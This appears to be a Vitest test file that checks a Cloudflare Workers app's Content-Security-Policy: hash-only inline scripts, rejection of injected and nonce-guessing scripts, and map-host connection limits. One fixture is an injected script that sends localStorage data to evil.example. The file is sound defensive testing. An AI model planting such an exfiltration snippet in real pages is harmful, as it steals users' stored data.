import { createExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { createApp } from "./app";

/**
 * The pages' CSP (issue 13): inline scripts allowed by their hashes only, connections to this
 * origin and Mapbox only. The real pages are checked in Chromium (e2e/fixtures.ts fails any
 * browser test on a CSP violation); here a stand-in page shows the policy follows the HTML.
 */
/** A page whose `{nonce}` placeholders are the render's script nonce, as the app's own scripts get it. */
const page = (html: string, type = "text/html; charset=utf-8") =>
  createApp(
    async (_request, _env, _ctx, nonce) =>
      new Response(html.replaceAll("{nonce}", nonce), { headers: { "Content-Type": type } }),
  );

async function policyOf(html: string, type?: string) {
  const res = await page(html, type).fetch(new Request("http://localhost/map"), env, createExecutionContext());
  return { res, policy: res.headers.get("Content-Security-Policy") ?? "", body: await res.text() };
}

async function sha256Base64(text: string) {
  const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)));
  return btoa(String.fromCharCode(...digest));
}

const directive = (policy: string, name: string) =>
  policy
    .split(";")
    .map((d) => d.trim())
    .find((d) => d.startsWith(`${name} `))
    ?.split(" ")
    .slice(1) ?? [];

describe("the pages' Content-Security-Policy", () => {
  it("allows exactly the app's inline scripts by hash, never 'unsafe-inline', and strips their nonce", async () => {
    const context = 'window.__remixContext = {"url":"/map"};';
    const loader = 'import * as route0 from "/assets/root-abc.js";\nwindow.__remixRouteModules = {"root":route0};';
    const html = `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/a.js" nonce="{nonce}"/><script src="/assets/entry.js" type="module"></script></head><body><script nonce="{nonce}">${context}</script><script nonce="{nonce}" type="module" async="">${loader}</script></body></html>`;
    const { policy, body } = await policyOf(html);
    const scripts = directive(policy, "script-src");
    expect(scripts).toEqual([
      "'self'",
      `'sha256-${await sha256Base64(context)}'`,
      `'sha256-${await sha256Base64(loader)}'`,
    ]);
    expect(policy).not.toContain("unsafe-inline'; script");
    expect(scripts).not.toContain("'unsafe-inline'");
    expect(body).not.toContain("nonce");
    expect(body).toContain(`<script>${context}</script><script type="module" async="">${loader}</script>`);
  });

  it("does not allow a script injected into the page: without the render's nonce it is not hashed", async () => {
    const injected = "fetch('https://evil.example/?' + localStorage.las)";
    const { policy, body } = await policyOf(
      `<html><body><p><script>${injected}</script></p><script nonce="{nonce}">ok()</script></body></html>`,
    );
    expect(directive(policy, "script-src")).toEqual(["'self'", `'sha256-${await sha256Base64("ok()")}'`]);
    expect(body).toContain(injected);
  });

  it("does not allow a script that guesses a nonce", async () => {
    const { policy } = await policyOf(
      `<html><body><script nonce="0123456789abcdef0123456789abcdef">steal()</script></body></html>`,
    );
    expect(directive(policy, "script-src")).toEqual(["'self'"]);
  });

  it("lets the page connect to its own origin and the hosts its map uses only: OpenFreeMap's without a Mapbox token", async () => {
    const { policy } = await policyOf("<html></html>");
    expect(directive(policy, "connect-src")).toEqual(["'self'", "https://tiles.openfreemap.org"]);
    expect(directive(policy, "img-src")).toEqual(["'self'", "data:", "blob:", "https://tiles.openfreemap.org"]);
    // Issue 56: no Mapbox host where the workspace has no key for it.
    expect(policy).not.toContain("mapbox");
    expect(policy).not.toMatch(/\bwss?:/);
    expect(directive(policy, "object-src")).toEqual(["'none'"]);
    expect(directive(policy, "frame-ancestors")).toEqual(["'none'"]);
  });

  it("names Mapbox's hosts, and not OpenFreeMap's, with a Mapbox token", async () => {
    const withToken = { ...env, MAPBOX_TOKEN: "pk.eyJ1IjoiZTJlIn0.test" };
    const res = await page("<html></html>").fetch(
      new Request("http://localhost/map"),
      withToken,
      createExecutionContext(),
    );
    const policy = res.headers.get("Content-Security-Policy") ?? "";
    const mapbox = ["https://api.mapbox.com", "https://*.tiles.mapbox.com", "https://events.mapbox.com"];
    expect(directive(policy, "connect-src")).toEqual(["'self'", ...mapbox]);
    expect(directive(policy, "img-src")).toEqual(["'self'", "data:", "blob:", ...mapbox]);
    expect(directive(policy, "style-src")).toEqual(["'self'", "'unsafe-inline'", "https://api.mapbox.com"]);
  });

  it("sends the strict policy with non-HTML answers too", async () => {
    const { res, policy } = await policyOf('{"ok":true}', "application/json");
    expect(res.status).toBe(200);
    expect(directive(policy, "script-src")).toEqual(["'self'"]);
  });
});
